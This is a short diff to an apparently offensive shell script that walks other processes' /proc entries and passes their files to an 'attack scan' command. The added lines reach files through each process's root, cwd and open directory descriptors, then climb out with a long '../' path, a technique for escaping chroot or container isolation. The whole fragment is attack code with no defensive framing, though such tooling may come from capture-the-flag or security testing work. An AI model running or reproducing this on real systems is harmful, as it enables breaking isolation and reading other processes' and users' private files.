@@ -13,7 +13,11 @@ for pid in $(others); do
       timeout 20 find "/proc/$pid/$way/$place" -xdev -maxdepth 5 -type f -size -1024 2>/dev/null | head -300 | xargs -r attack scan
     done
   done
-  for fd in /proc/"$pid"/fd/*; do [ -f "$fd" ] && attack scan "$fd"; done
+  daemon_file "/proc/$pid/root" "/proc/$pid/cwd"
+  for fd in /proc/"$pid"/fd/*; do
+    [ -f "$fd" ] && attack scan "$fd"
+    [ -d "$fd" ] && daemon_file "$fd" "$fd/../../../../../../.."
+  done
 done
 tried "$n"
 ATTACK
